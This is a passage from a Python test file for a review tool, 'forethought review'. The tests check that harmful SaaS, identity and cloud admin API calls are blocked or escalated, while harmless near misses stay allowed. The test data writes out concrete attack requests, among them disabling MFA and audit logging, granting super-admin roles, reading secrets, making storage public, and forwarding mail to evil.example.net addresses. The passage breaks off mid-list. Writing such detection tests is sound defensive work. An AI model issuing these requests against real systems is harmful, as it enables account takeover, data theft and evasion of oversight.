"""SaaS, identity and cloud administration APIs as effects (issue 11), through `forethought
review`: every catalogue entry (admin_apis.toml and admin_apis.d/*.toml) has a request it
matches, reviewed as the harm it is, beside a near miss on the same service that stays allowed
(a read, one's own profile, a comment, a record the task names). The same calls made from Python
(`requests.post`), a task that asks for the change and names the service (escalated, not
blocked), secret values read through an API, and the catalogue as data (its files, its fields,
its errors)."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from _review import review_json
from forethought.review import admin_apis
from forethought.review.effects import OPERATIONS, RESOURCES

TASK = "Help with the project"
AUTH = {"Authorization": "Bearer $API_TOKEN"}
SIGV4 = {
    "Authorization": "AWS4-HMAC-SHA256 Credential=AKIAJ7Q3ZK5V2XN4P6RT/20250101/us-east-1/iam/"
    "aws4_request, SignedHeaders=host;x-amz-date, Signature=5d672d79c15b13162d9279b0855cfba6"
}


def _http(
    method: str,
    url: str,
    body: str = "",
    task: str = TASK,
    headers: dict[str, str] | None = None,
) -> dict[str, Any]:
    # (AWS requests are signed; in a pod, the API server gets the pod's own token)
    auth = SIGV4 if ".amazonaws.com" in url else {} if url.startswith(K8S) else AUTH
    args: dict[str, Any] = {"method": method, "url": url, "headers": {**auth, **(headers or {})}}
    if body:
        args["body"] = body
    return {"tool": "http_request", "args": args, "task": task}


OKTA = "https://acme.okta.com/api/v1"
AUTH0 = "https://acme.eu.auth0.com/api/v2"
GRAPH = "https://graph.microsoft.com/v1.0"
EXO = "https://outlook.office365.com/adminapi/beta/contoso.onmicrosoft.com/InvokeCommand"
DIRECTORY = "https://admin.googleapis.com/admin/directory/v1"
GMAIL = "https://gmail.googleapis.com/gmail/v1/users/me/settings"
SLACK = "https://slack.com/api"
ARM = "https://management.azure.com/subscriptions/0000/resourceGroups/rg/providers"
CF = "https://api.cloudflare.com/client/v4"
DD = "https://api.datadoghq.com/api"
PD = "https://api.pagerduty.com"
SENTRY = "https://sentry.io/api/0"
GH = "https://api.github.com"
K8S = "https://kubernetes.default.svc"
JIRA_SITE = "https://acme.atlassian.net"
JIRA = f"{JIRA_SITE}/rest/api/3"


def _amz(target: str) -> dict[str, str]:
    return {"X-Amz-Target": target, "Content-Type": "application/x-amz-json-1.1"}


# (harmful request, its decision, a near miss on the same service that stays allowed)
CASES: list[tuple[dict[str, Any], str, dict[str, Any]]] = [
    # --- GitHub, repository level
    (
        _http("DELETE", f"{GH}/repos/acme/payments/vulnerability-alerts"),
        "block",
        _http("GET", f"{GH}/repos/acme/payments/vulnerability-alerts"),
    ),
    (
        _http("PATCH", f"{GH}/orgs/acme", '{"two_factor_requirement_enabled": false}'),
        "block",
        _http("PATCH", f"{GH}/orgs/acme", '{"description": "ACME builds"}'),
    ),
    (
        _http("PUT", f"{GH}/user/installations/55555/repositories/1296269"),
        "block",
        _http("GET", f"{GH}/user/installations/55555/repositories"),
    ),
    (
        _http(
            "POST", f"{GH}/repos/acme/infra/keys", '{"key": "ssh-ed25519 AAAA", "read_only": false}'
        ),
        "block",
        _http("GET", f"{GH}/repos/acme/infra/keys"),
    ),
    (
        _http(
            "POST", f"{GH}/repos/acme/infra/keys", '{"key": "ssh-ed25519 AAAA", "read_only": true}'
        ),
        "escalate",
        _http("GET", f"{GH}/repos/acme/infra/keys/7"),
    ),
    (
        _http("POST", f"{GH}/user/gpg_keys", '{"armored_public_key": "-----BEGIN PGP"}'),
        "block",
        _http("GET", f"{GH}/user/gpg_keys"),
    ),
    (
        _http("POST", f"{GH}/orgs/acme/hooks", '{"config": {"url": "https://x.example.net"}}'),
        "block",
        _http("GET", f"{GH}/orgs/acme/hooks"),
    ),
    (
        _http("PUT", f"{GH}/orgs/acme/memberships/someone", '{"role": "admin"}'),
        "block",
        _http("GET", f"{GH}/orgs/acme/members"),
    ),
    (
        _http("PUT", f"{GH}/repos/acme/infra/collaborators/someone"),
        "block",
        _http("GET", f"{GH}/repos/acme/infra/collaborators"),
    ),
    (
        _http("DELETE", f"{GH}/repos/acme/infra/branches/main/protection"),
        "block",
        _http("GET", f"{GH}/repos/acme/infra/branches/main/protection"),
    ),
    (
        _http("POST", f"{GH}/orgs/acme/actions/runners/registration-token"),
        "escalate",
        _http("GET", f"{GH}/orgs/acme/actions/runners"),
    ),
    (
        _http("PUT", f"{GH}/orgs/acme/actions/secrets/NPM_TOKEN", '{"encrypted_value": "x"}'),
        "revise",
        _http("GET", f"{GH}/orgs/acme/actions/secrets"),
    ),
    # --- GitHub, organisation level
    (
        _http("PATCH", f"{GH}/repos/acme/infra", '{"private": false}'),
        "block",
        _http("PATCH", f"{GH}/repos/acme/infra", '{"description": "Infra code"}'),
    ),
    (
        _http(
            "PATCH",
            f"{GH}/repos/acme/infra",
            '{"security_and_analysis": '
            '{"secret_scanning_push_protection": {"status": "disabled"}}}',
        ),
        "block",
        _http(
            "PATCH",
            f"{GH}/repos/acme/infra",
            '{"security_and_analysis": {"secret_scanning": {"status": "enabled"}}}',
        ),
    ),
    (
        _http(
            "PATCH", f"{GH}/orgs/acme", '{"secret_scanning_enabled_for_new_repositories": false}'
        ),
        "block",
        _http("PATCH", f"{GH}/orgs/acme", '{"blog": "https://acme.example.com"}'),
    ),
    (
        _http("POST", f"{GH}/orgs/acme/secret_scanning/disable_all"),
        "block",
        _http("GET", f"{GH}/orgs/acme/secret-scanning/alerts"),
    ),
    (
        _http("DELETE", f"{GH}/enterprises/acme/audit-log/streams/7"),
        "block",
        _http("PUT", f"{GH}/enterprises/acme/audit-log/streams/7", '{"enabled": true}'),
    ),
    (
        _http("DELETE", f"{GH}/orgs/acme/rulesets/42"),
        "block",
        _http("GET", f"{GH}/orgs/acme/rulesets/42"),
    ),
    (
        _http("POST", f"{GH}/repos/acme/infra/transfer", '{"new_owner": "someone-else"}'),
        "block",
        _http("POST", f"{GH}/repos/acme/infra/issues/3/comments", '{"body": "Fixed in #12"}'),
    ),
    (
        _http("DELETE", f"{GH}/repos/acme/infra"),
        "escalate",
        _http("GET", f"{GH}/repos/acme/infra"),
    ),
    (
        _http("DELETE", f"{GH}/repos/acme/infra/actions/runs/123/logs"),
        "block",
        _http("GET", f"{GH}/repos/acme/infra/actions/runs/123/logs"),
    ),
    (
        _http(
            "PUT",
            f"{GH}/repos/acme/infra/actions/permissions/workflow",
            '{"default_workflow_permissions": "write", "can_approve_pull_request_reviews": true}',
        ),
        "block",
        _http(
            "PUT",
            f"{GH}/repos/acme/infra/actions/permissions/workflow",
            '{"default_workflow_permissions": "read"}',
        ),
    ),
    # --- Okta
    (
        _http("POST", f"{OKTA}/users/00u1abc/roles", '{"type": "SUPER_ADMIN"}'),
        "block",
        _http("GET", f"{OKTA}/users/00u1abc/roles"),
    ),
    (
        _http("POST", f"{OKTA}/users/00u1abc/lifecycle/reset_factors"),
        "block",
        _http("GET", f"{OKTA}/users/00u1abc/factors"),
    ),
    (
        _http("PUT", f"{OKTA}/groups/00g1admins/users/00u9xyz"),
        "block",
        _http("GET", f"{OKTA}/users/me"),
    ),
    (
        _http("DELETE", f"{OKTA}/policies/00p1mfa/rules/0pr1"),
        "block",
        _http("GET", f"{OKTA}/policies?type=OKTA_SIGN_ON"),
    ),
    (
        _http("POST", f"{OKTA}/idps", '{"type": "SAML2", "name": "partner"}'),
        "block",
        _http("GET", f"{OKTA}/idps"),
    ),
    (
        _http(
            "POST",
            f"{OKTA}/eventHooks",
            '{"name": "sync", "channel": {"config": {"uri": "https://collect.example.net/h"}}}',
        ),
        "block",
        _http("GET", f"{OKTA}/eventHooks"),
    ),
    (
        _http("POST", f"{OKTA}/logStreams/0oa1/lifecycle/deactivate"),
        "block",
        _http("POST", f"{OKTA}/logStreams/0oa1/lifecycle/activate"),
    ),
    (
        _http("POST", f"{OKTA}/apps/0oa2app/credentials/secrets"),
        "block",
        _http("GET", f"{OKTA}/apps/0oa2app"),
    ),
    (
        _http("POST", f"{OKTA}/apps/0oa2app/grants", '{"scopeId": "okta.users.manage"}'),
        "block",
        _http("GET", f"{OKTA}/apps/0oa2app/grants"),
    ),
    # --- Auth0
    (
        _http("DELETE", f"{AUTH0}/users/auth0%7C123/authenticators"),
        "block",
        _http("GET", f"{AUTH0}/users/auth0%7C123/enrollments"),
    ),
    (
        _http("POST", f"{AUTH0}/users/auth0%7C123/roles", '{"roles": ["rol_admin"]}'),
        "block",
        _http("GET", f"{AUTH0}/users/auth0%7C123/roles"),
    ),
    (
        _http("PATCH", f"{AUTH0}/users/auth0%7C123", '{"password": "Winter2025!"}'),
        "block",
        _http("PATCH", f"{AUTH0}/users/auth0%7C123", '{"user_metadata": {"theme": "dark"}}'),
    ),
    (
        _http("POST", f"{AUTH0}/clients/abc123/rotate-secret"),
        "block",
        _http("GET", f"{AUTH0}/clients/abc123"),
    ),
    (
        _http("POST", f"{AUTH0}/log-streams", '{"type": "http", "sink": {"httpEndpoint": "x"}}'),
        "block",
        _http("GET", f"{AUTH0}/log-streams"),
    ),
    (
        _http("PATCH", f"{AUTH0}/log-streams/lst_1", '{"status": "paused"}'),
        "block",
        _http("PATCH", f"{AUTH0}/log-streams/lst_1", '{"status": "active"}'),
    ),
    (
        _http("POST", f"{AUTH0}/actions/actions", '{"name": "post-login", "code": "exports"}'),
        "escalate",
        _http("GET", f"{AUTH0}/actions/actions"),
    ),
    # --- Microsoft Graph (Entra ID, Outlook)
    (
        _http("POST", f"{GRAPH}/applications/8f2c/addPassword", '{"passwordCredential": {}}'),
        "block",
        _http("GET", f"{GRAPH}/applications/8f2c"),
    ),
    (
        _http("PATCH", f"{GRAPH}/applications/8f2c", '{"keyCredentials": [{"type": "X509"}]}'),
        "block",
        _http("PATCH", f"{GRAPH}/applications/8f2c", '{"displayName": "Billing app"}'),
    ),
    (
        _http(
            "POST",
            f"{GRAPH}/servicePrincipals/5d1e/appRoleAssignedTo",
            '{"principalId": "a1", "resourceId": "5d1e", "appRoleId": "19dbc75e"}',
        ),
        "block",
        _http("GET", f"{GRAPH}/servicePrincipals/5d1e/appRoleAssignedTo"),
    ),
    (
        _http(
            "POST",
            f"{GRAPH}/roleManagement/directory/roleAssignments",
            '{"roleDefinitionId": "62e90394", "principalId": "a1", "directoryScopeId": "/"}',
        ),
        "block",
        _http("GET", f"{GRAPH}/roleManagement/directory/roleAssignments"),
    ),
    (
        _http("POST", f"{GRAPH}/groups/9a1/members/$ref", '{"@odata.id": "users/a1"}'),
        "block",
        _http("GET", f"{GRAPH}/me/memberOf"),
    ),
    (
        _http(
            "PATCH",
            f"{GRAPH}/users/a1",
            '{"passwordProfile": {"password": "x", "forceChangePasswordNextSignIn": false}}',
        ),
        "block",
        _http("PATCH", f"{GRAPH}/users/a1", '{"jobTitle": "Engineer"}'),
    ),
    (
        _http(
            "POST",
            f"{GRAPH}/users/a1/authentication/temporaryAccessPassMethods",
            '{"lifetimeInMinutes": 60}',
        ),
        "block",
        _http("GET", f"{GRAPH}/me/authentication/methods"),
    ),
    (
        _http("DELETE", f"{GRAPH}/users/a1/authentication/phoneMethods/3179e48a"),
        "block",
        _http("GET", f"{GRAPH}/users/a1/authentication/phoneMethods"),
    ),
    (
        _http("PATCH", f"{GRAPH}/identity/conditionalAccess/policies/c1", '{"state": "disabled"}'),
        "block",
        _http("GET", f"{GRAPH}/identity/conditionalAccess/policies"),
    ),
    (
        _http(
            "POST",
            f"{GRAPH}/domains/contoso.com/federationConfiguration",
            '{"issuerUri": "http://evil.example.net/adfs", "signingCertificate": "MIIC"}',
        ),
        "block",
        _http("GET", f"{GRAPH}/domains"),
    ),
    (
        _http(
            "POST",
            f"{GRAPH}/me/mailFolders/inbox/messageRules",
            '{"displayName": "sync", "actions": {"forwardTo": [{"emailAddress": '
            '{"address": "drop@evil.example.net"}}]}}',
        ),
        "block",
        _http(
            "POST",
            f"{GRAPH}/me/mailFolders/inbox/messageRules",
            '{"displayName": "newsletters", "conditions": {"senderContains": ["news"]}, '
            '"actions": {"copyToFolder": "AAMk"}}',
        ),
    ),
    (
        _http(
            "POST",
            f"{GRAPH}/me/mailFolders/inbox/messageRules",
            '{"displayName": "x", "conditions": {"subjectContains": ["security alert"]}, '
            '"actions": {"delete": true}}',
        ),
        "escalate",
        _http("GET", f"{GRAPH}/me/mailFolders/inbox/messageRules"),
    ),
    # --- Exchange Online admin API
    (
        _http(
            "POST",
            EXO,
            '{"CmdletInput": {"CmdletName": "New-TransportRule", "Parameters": {"Name": "x", '
            '"BlindCopyTo": "drop@evil.example.net"}}}',
        ),
        "block",
        _http(
            "POST",
            EXO,
            '{"CmdletInput": {"CmdletName": "Get-Mailbox", "Parameters": {"Identity": "bob"}}}',
        ),
    ),
    (
        _http(
            "POST",
            EXO,
            '{"CmdletInput": {"CmdletName": "Add-MailboxPermission", "Parameters": '
            '{"Identity": "ceo", "User": "intern", "AccessRights": "FullAccess"}}}',
        ),
        "block",
        _http(
            "POST",
            EXO,
            '{"CmdletInput": {"CmdletName": "Get-MailboxPermission", "Parameters": '
            '{"Identity": "ceo"}}}',
        ),
    ),
    # --- Google Workspace
    (
        _http("POST", f"{DIRECTORY}/users/bob@acme.com/makeAdmin", '{"status": true}'),
        "block",
        _http("GET", f"{DIRECTORY}/users/bob@acme.com"),
    ),
    (
        _http("POST", f"{DIRECTORY}/users", '{"primaryEmail": "svc2@acme.com", "password": "x"}'),
        "block",
        _http("GET", f"{DIRECTORY}/users?domain=acme.com"),
    ),
    (
        _http("PATCH", f"{DIRECTORY}/users/bob@acme.com", '{"password": "Winter2025!"}'),
        "block",
        _http("PATCH", f"{DIRECTORY}/users/bob@acme.com", '{"orgUnitPath": "/Engineering"}'),
    ),
    (
        _http("POST", f"{DIRECTORY}/users/bob@acme.com/twoStepVerification/turnOff"),
        "block",
        _http("GET", f"{DIRECTORY}/users/bob@acme.com/tokens"),
    ),
    (
        _http(
            "POST",
            "https://admin.googleapis.com/admin/datatransfer/v1/transfers",
            '{"oldOwnerUserId": "1", "newOwnerUserId": "2"}',
        ),
        "block",
        _http("GET", "https://admin.googleapis.com/admin/datatransfer/v1/applications"),
    ),
    (
        _http("PUT", f"{GMAIL}/autoForwarding", '{"enabled": true, "emailAddress": "x@evil.net"}'),
        "block",
        _http("PUT", f"{GMAIL}/autoForwarding", '{"enabled": false}'),
    ),
    (
        _http(
            "POST",
            f"{GMAIL}/filters",
            '{"criteria": {"from": "bank"}, "action": {"forward": "x@evil.net"}}',
        ),
        "block",
        _http(
            "POST",
            f"{GMAIL}/filters",
            '{"criteria": {"from": "newsletter"}, "action": {"addLabelIds": ["Label_1"]}}',
        ),
    ),
    (
        _http("POST", f"{GMAIL}/delegates", '{"delegateEmail": "intern@acme.com"}'),
        "block",
        _http("GET", f"{GMAIL}/delegates"),
    ),
    (
        _http(
            "POST",
            "https://www.googleapis.com/drive/v3/files/1AbC/permissions",
            '{"role": "reader", "type": "anyone"}',
        ),
        "block",
        _http(
            "POST",
            "https://www.googleapis.com/drive/v3/files/1AbC/permissions",
            '{"role": "reader", "type": "user", "emailAddress": "carol@acme.com"}',
        ),
    ),
    (
        _http(
            "PATCH",
            "https://www.googleapis.com/groups/v1/groups/finance@acme.com",
            '{"allowExternalMembers": "true", "whoCanJoin": "ANYONE_CAN_JOIN"}',
        ),
        "block",
        _http("GET", "https://www.googleapis.com/groups/v1/groups/finance@acme.com"),
    ),
    (
        _http(
            "POST",
            "https://www.googleapis.com/calendar/v3/calendars/ceo@acme.com/acl",
            '{"role": "reader", "scope": {"type": "default"}}',
        ),
        "block",
        _http("GET", "https://www.googleapis.com/calendar/v3/calendars/ceo@acme.com/acl"),
    ),
    # --- Slack
    (
        _http("POST", f"{SLACK}/admin.users.setAdmin", "team_id=T1&user_id=W9"),
        "block",
        _http("POST", f"{SLACK}/chat.postMessage", '{"channel": "#deploys", "text": "done"}'),
    ),
    (
        _http("POST", f"{SLACK}/admin.users.invite", '{"email": "x@example.net", "team_id": "T1"}'),
        "block",
        _http("POST", f"{SLACK}/users.list"),
    ),
    (
        _http("POST", f"{SLACK}/admin.apps.approve", "app_id=A123&team_id=T1"),
        "block",
        _http("GET", f"{SLACK}/admin.apps.approved.list"),
    ),
    (
        _http("POST", f"{SLACK}/discovery.conversations.history", "channel=D123&limit=1000"),
        "escalate",
        _http("POST", f"{SLACK}/conversations.history", "channel=C123&limit=10"),
    ),
    (
        _http("POST", f"{SLACK}/admin.conversations.convertToPublic", "channel_id=G123"),
        "escalate",
        _http("POST", f"{SLACK}/conversations.create", "name=incident-42"),
    ),
    (
        _http("POST", f"{SLACK}/admin.barriers.delete", "barrier_id=B1"),
        "block",
        _http("GET", f"{SLACK}/admin.barriers.list"),
    ),
    # --- Google Cloud
    (
        _http(
            "PUT",
            "https://storage.googleapis.com/storage/v1/b/acme-backups/iam",
            '{"bindings": [{"role": "roles/storage.objectViewer", "members": ["allUsers"]}]}',
        ),
        "block",
        _http("GET", "https://storage.googleapis.com/storage/v1/b/acme-backups/iam"),
    ),
    (
        _http(
            "POST",
            "https://cloudresourcemanager.googleapis.com/v3/projects/acme-prod:setIamPolicy",
            '{"policy": {"bindings": [{"role": "roles/owner", "members": '
            '["user:x@evil.example.net"]}]}}',
        ),
        "block",
        _http(
            "POST",
            "https://cloudresourcemanager.googleapis.com/v3/projects/acme-prod:getIamPolicy",
        ),
    ),
    (
        _http(
            "POST",
            "https://iam.googleapis.com/v1/projects/acme-prod/serviceAccounts/"
            "deploy@acme-prod.iam.gserviceaccount.com/keys",
            "{}",
        ),
        "block",
        _http(
            "GET",
            "https://iam.googleapis.com/v1/projects/acme-prod/serviceAccounts/"
            "deploy@acme-prod.iam.gserviceaccount.com/keys",
        ),
    ),
    (
        _http(
            "POST",
            "https://iamcredentials.googleapis.com/v1/projects/-/serviceAccounts/"
            "admin@acme-prod.iam.gserviceaccount.com:generateAccessToken",
            '{"scope": ["https://www.googleapis.com/auth/cloud-platform"]}',
        ),
        "block",
        _http("GET", "https://iam.googleapis.com/v1/projects/acme-prod/serviceAccounts"),
    ),
    (
        _http(
            "GET",
            "https://secretmanager.googleapis.com/v1/projects/acme-prod/secrets/db-password/"
            "versions/latest:access",
        ),
        "block",
        _http("GET", "https://secretmanager.googleapis.com/v1/projects/acme-prod/secrets"),
    ),
    (
        _http("DELETE", "https://logging.googleapis.com/v2/projects/acme-prod/sinks/audit-to-bq"),
        "block",
        _http("GET", "https://logging.googleapis.com/v2/projects/acme-prod/sinks"),
    ),
    (
        _http(
            "POST",
            "https://compute.googleapis.com/compute/v1/projects/acme-prod/global/firewalls",
            '{"name": "allow-all", "sourceRanges": ["0.0.0.0/0"], "allowed": '
            '[{"IPProtocol": "tcp"}]}',
        ),
        "block",
        _http(
            "GET", "https://compute.googleapis.com/compute/v1/projects/acme-prod/global/firewalls"
        ),
    ),
    # --- Azure Resource Manager and Key Vault
    (
        _http(
            "PUT",
            f"{ARM}/Microsoft.Authorization/roleAssignments/5f1c?api-version=2022-04-01",
            '{"properties": {"roleDefinitionId": "/providers/Microsoft.Authorization/'
            'roleDefinitions/8e3af657", "principalId": "a1"}}',
        ),
        "block",
        _http("GET", f"{ARM}/Microsoft.Authorization/roleAssignments?api-version=2022-04-01"),
    ),
    (
        _http(
            "DELETE",
            f"{ARM}/Microsoft.KeyVault/vaults/kv1/providers/Microsoft.Insights/"
            "diagnosticSettings/to-sentinel?api-version=2021-05-01-preview",
        ),
        "block",
        _http(
            "GET",
            f"{ARM}/Microsoft.KeyVault/vaults/kv1/providers/Microsoft.Insights/"
            "diagnosticSettings?api-version=2021-05-01-preview",
        ),
    ),
    (
        _http(
            "POST",
            f"{ARM}/Microsoft.Storage/storageAccounts/acmedata/listKeys?api-version=2023-01-01",
        ),
        "block",
        _http("GET", f"{ARM}/Microsoft.Storage/storageAccounts/acmedata?api-version=2023-01-01"),
    ),
    (
        _http(
            "PUT",
            f"{ARM}/Microsoft.Network/networkSecurityGroups/web-nsg/securityRules/any?"
            "api-version=2023-09-01",
            '{"properties": {"access": "Allow", "direction": "Inbound", '
            '"sourceAddressPrefix": "*", "destinationPortRange": "*"}}',
        ),
        "block",
        _http(
            "GET",
            f"{ARM}/Microsoft.Network/networkSecurityGroups/web-nsg/securityRules?"
            "api-version=2023-09-01",
        ),
    ),
    (
        _http(
            "PUT",
            f"{ARM}/Microsoft.KeyVault/vaults/kv1/accessPolicies/add?api-version=2023-07-01",
            '{"properties": {"accessPolicies": [{"objectId": "a1", "permissions": '
            '{"secrets": ["get", "list"]}}]}}',
        ),
        "block",
        _http("GET", f"{ARM}/Microsoft.KeyVault/vaults/kv1?api-version=2023-07-01"),
    ),
    (
        _http(
            "POST",
            f"{ARM}/Microsoft.Compute/virtualMachines/web1/runCommand?api-version=2024-03-01",
            '{"commandId": "RunShellScript", "script": ["id"]}',
        ),
        "block",
        _http("GET", f"{ARM}/Microsoft.Compute/virtualMachines/web1?api-version=2024-03-01"),
    ),
    (
        _http(
            "DELETE",
            f"{ARM}/Microsoft.Network/firewallPolicies/edge-fw?api-version=2023-09-01",
        ),
        "block",
        _http("GET", f"{ARM}/Microsoft.Network/firewallPolicies/edge-fw?api-version=2023-09-01"),
    ),
    (
        _http(
            "PUT",
            f"{ARM}/Microsoft.Storage/storageAccounts/acmedata/blobServices/default/containers/"
            "exports?api-version=2023-01-01",
            '{"properties": {"publicAccess": "Container"}}',
        ),
        "block",
        _http(
            "GET",
            f"{ARM}/Microsoft.Storage/storageAccounts/acmedata/blobServices/default/containers"
            "?api-version=2023-01-01",
        ),
    ),
    (
        _http("GET", "https://acme-kv.vault.azure.net/secrets/db-password?api-version=7.4"),
        "block",
        _http("GET", "https://acme-kv.vault.azure.net/secrets?api-version=7.4"),
    ),
    # --- AWS (signed requests)
    (
        _http(
            "POST",
            "https://iam.amazonaws.com/",
            "Action=CreateAccessKey&UserName=ci-deploy&Version=2010-05-08",
        ),
        "block",
        _http(
            "POST",
            "https://iam.amazonaws.com/",
            "Action=ListAccessKeys&UserName=ci-deploy&Version=2010-05-08",
        ),
    ),
    (
        _http(
            "POST",
            "https://iam.amazonaws.com/",
            "Action=AttachUserPolicy&UserName=intern&PolicyArn=arn%3Aaws%3Aiam%3A%3Aaws%3A"
            "policy%2FAdministratorAccess&Version=2010-05-08",
        ),
        "block",
        _http(
            "POST",
            "https://iam.amazonaws.com/",
            "Action=ListAttachedUserPolicies&UserName=intern&Version=2010-05-08",
        ),
    ),
    (
        _http(
            "POST",
            "https://cloudtrail.us-east-1.amazonaws.com/",
            '{"Name": "org-trail"}',
            headers=_amz("com.amazonaws.cloudtrail.v20131101.CloudTrail_20131101.StopLogging"),
        ),
        "block",
        _http(
            "POST",
            "https://cloudtrail.us-east-1.amazonaws.com/",
            '{"Name": "org-trail"}',
            headers=_amz("com.amazonaws.cloudtrail.v20131101.CloudTrail_20131101.GetTrailStatus"),
        ),
    ),
    (
        _http(
            "POST",
            "https://guardduty.us-east-1.amazonaws.com/detector/12abc",
            '{"enable": false}',
        ),
        "block",
        _http("GET", "https://guardduty.us-east-1.amazonaws.com/detector/12abc/findings"),
    ),
    (
        _http(
            "POST",
            "https://secretsmanager.us-east-1.amazonaws.com/",
            '{"SecretId": "prod/db"}',
            headers=_amz("secretsmanager.GetSecretValue"),
        ),
        "block",
        _http(
            "POST",
            "https://secretsmanager.us-east-1.amazonaws.com/",
            '{"MaxResults": 10}',
            headers=_amz("secretsmanager.ListSecrets"),
        ),
    ),
    (
        _http(
            "POST",
            "https://kms.us-east-1.amazonaws.com/",
            '{"KeyId": "1234abcd", "PendingWindowInDays": 7}',
            headers=_amz("TrentService.ScheduleKeyDeletion"),
        ),
        "block",
        _http(
            "POST",
            "https://kms.us-east-1.amazonaws.com/",
            '{"KeyId": "1234abcd"}',
            headers=_amz("TrentService.DescribeKey"),
        ),
    ),
    (
        _http(
            "POST",
            "https://ec2.us-east-1.amazonaws.com/",
            "Action=AuthorizeSecurityGroupIngress&GroupId=sg-1&IpPermissions.1.IpProtocol=-1&"
            "IpPermissions.1.IpRanges.1.CidrIp=0.0.0.0%2F0&Version=2016-11-15",
        ),
        "block",
        _http(
            "POST",
            "https://ec2.us-east-1.amazonaws.com/",
            "Action=DescribeSecurityGroups&GroupId.1=sg-1&Version=2016-11-15",
        ),
    ),
    (
        _http(
            "PUT",
            "https://acme-exports.s3.amazonaws.com/?policy",
            '{"Statement": [{"Effect": "Allow", "Principal": "*", "Action": "s3:GetObject", '
            '"Resource": "arn:aws:s3:::acme-exports/*"}]}',
        ),
        "block",
        _http("GET", "https://acme-exports.s3.amazonaws.com/?policy"),
    ),
    (
        _http("DELETE", "https://acme-exports.s3.us-east-1.amazonaws.com/?publicAccessBlock"),
        "block",
        _http("GET", "https://acme-exports.s3.us-east-1.amazonaws.com/?publicAccessBlock"),
    ),
    # --- Cloudflare
    (
        _http("PATCH", f"{CF}/zones/z1/settings/waf", '{"value": "off"}'),
        "block",
        _http("GET", f"{CF}/zones/z1/settings/waf"),
    ),
    (
        _http("DELETE", f"{CF}/zones/z1/rulesets/r1"),
        "block",
        _http("GET", f"{CF}/zones/z1/rulesets"),
    ),
    (
        _http("POST", f"{CF}/user/tokens", '{"name": "ci", "policies": []}'),
        "block",
        _http("GET", f"{CF}/user/tokens/verify"),
    ),
    (
        _http(
            "PATCH", f"{CF}/zones/z1/dns_records/rec1", '{"type": "A", "content": "198.51.100.7"}'
        ),
        "escalate",
        _http("GET", f"{CF}/zones/z1/dns_records?name=www.example.com"),
    ),
    # --- Kubernetes API server
    (
        _http(
            "POST",
            f"{K8S}/apis/rbac.authorization.k8s.io/v1/clusterrolebindings",
            '{"metadata": {"name": "ci"}, "roleRef": {"kind": "ClusterRole", "name": '
            '"cluster-admin"}, "subjects": [{"kind": "ServiceAccount", "name": "default", '
            '"namespace": "default"}]}',
        ),
        "block",
        _http("GET", f"{K8S}/apis/rbac.authorization.k8s.io/v1/clusterrolebindings"),
    ),
    (
        _http(
            "POST",
            f"{K8S}/api/v1/namespaces/kube-system/serviceaccounts/admin/token",
            '{"spec": {"expirationSeconds": 31536000}}',
        ),
        "block",
        _http("GET", f"{K8S}/api/v1/namespaces/kube-system/serviceaccounts"),
    ),
    # --- monitoring
    (
        _http("DELETE", f"{DD}/v2/security_monitoring/rules/abc-123"),
        "block",
        _http("GET", f"{DD}/v2/security_monitoring/rules"),
    ),
    (
        _http("DELETE", f"{DD}/v1/monitor/1234"),
        "block",
        _http("POST", f"{DD}/v1/monitor", '{"name": "disk", "type": "metric alert"}'),
    ),
    (
        _http("POST", f"{DD}/v1/monitor/1234/mute", '{"end": 1999999999}'),
        "escalate",
        _http("GET", f"{DD}/v1/monitor/1234"),
    ),
    (
        _http("POST", f"{DD}/v2/api_keys", '{"data": {"attributes": {"name": "x"}}}'),
        "block",
        _http("GET", f"{DD}/v2/api_keys"),
    ),
    (
        _http("PUT", f"{PD}/services/P1", '{"service": {"status": "disabled"}}'),
        "block",
        _http("PUT", f"{PD}/services/P1", '{"service": {"description": "Payments API"}}'),
    ),
    (
        _http("DELETE", f"{PD}/escalation_policies/EP1"),
        "block",
        _http("PUT", f"{PD}/incidents/Q1", '{"incident": {"status": "acknowledged"}}'),
    ),
    (
        _http(
            "POST",
            f"{PD}/webhook_subscriptions",
            '{"webhook_subscription": {"delivery_method": {"url": "https://x.example.net"}}}',
        ),
        "escalate",
        _http("GET", f"{PD}/webhook_subscriptions"),
    ),
    (
        _http("DELETE", f"{SENTRY}/projects/acme/web/rules/17/"),
        "escalate",
        _http("GET", f"{SENTRY}/projects/acme/web/rules/"),
    ),
    (
        _http(
            "POST",
            f"{SENTRY}/organizations/acme/members/",
            '{"email": "x@evil.example.net", "orgRole": "owner"}',
        ),
        "block",
        _http(
            "POST",
            f"{SENTRY}/organizations/acme/members/",
            '{"email": "dev@acme.com", "orgRole": "member"}',
        ),
    ),
    # --- registries
    (
        _http(
            "POST",
            "https://registry.npmjs.org/-/npm/v1/user",
            '{"tfa": {"password": "x", "mode": "disable"}}',
        ),
        "block",
        _http(
            "POST",
            "https://registry.npmjs.org/-/npm/v1/user",
            '{"tfa": {"password": "x", "mode": "auth-and-writes"}}',
        ),
    ),
    (
        _http("POST", f"{OKTA}/org/privacy/oktaSupport/grant"),
        "block",
        _http("GET", f"{OKTA}/org/privacy/oktaSupport"),
    ),
    (
        _http("POST", "https://registry.npmjs.org/-/npm/v1/tokens", '{"password": "x"}'),
        "block",
        _http("GET", "https://registry.npmjs.org/-/npm/v1/tokens"),
    ),
    (
        _http("PUT", "https://registry.npmjs.org/left-pad", '{"name": "left-pad", "versions": {}}'),
        "escalate",
        _http("GET", "https://registry.npmjs.org/left-pad"),
    ),
    (
        _http("POST", "https://upload.pypi.org/legacy/", ":action=file_upload&name=requests"),
        "escalate",
        _http("GET", "https://pypi.org/pypi/requests/json"),
    ),
    (
        _http("POST", "https://hub.docker.com/v2/access-tokens", '{"token_label": "ci"}'),
        "block",
        _http("GET", "https://hub.docker.com/v2/repositories/acme/web/tags"),
    ),
    (
        _http("PATCH", "https://hub.docker.com/v2/repositories/acme/web/", '{"is_private": false}'),
        "block",
        _http(
            "PATCH",
            "https://hub.docker.com/v2/repositories/acme/web/",
            '{"description": "web image"}',
        ),
    ),
    (
        _http("PUT", "https://registry-1.docker.io/v2/library/python/manifests/3.12", "{}"),
        "escalate",
        _http("GET", "https://registry-1.docker.io/v2/library/python/manifests/3.12"),
    ),
    # --- Jira and Confluence (a Cloud site: a key sent there is the user's own)
    (
        _http("POST", f"{JIRA}/group/user?groupname=site-admins", '{"accountId": "5b10"}'),
        "block",
        _http("GET", f"{JIRA}/group/member?groupname=site-admins"),
    ),
    (
        _http("PUT", f"{JIRA}/project/OPS/role/10002", '{"categorisedActors": {}}'),
        "escalate",
        _http("GET", f"{JIRA}/project/OPS/role/10002"),
    ),
    (
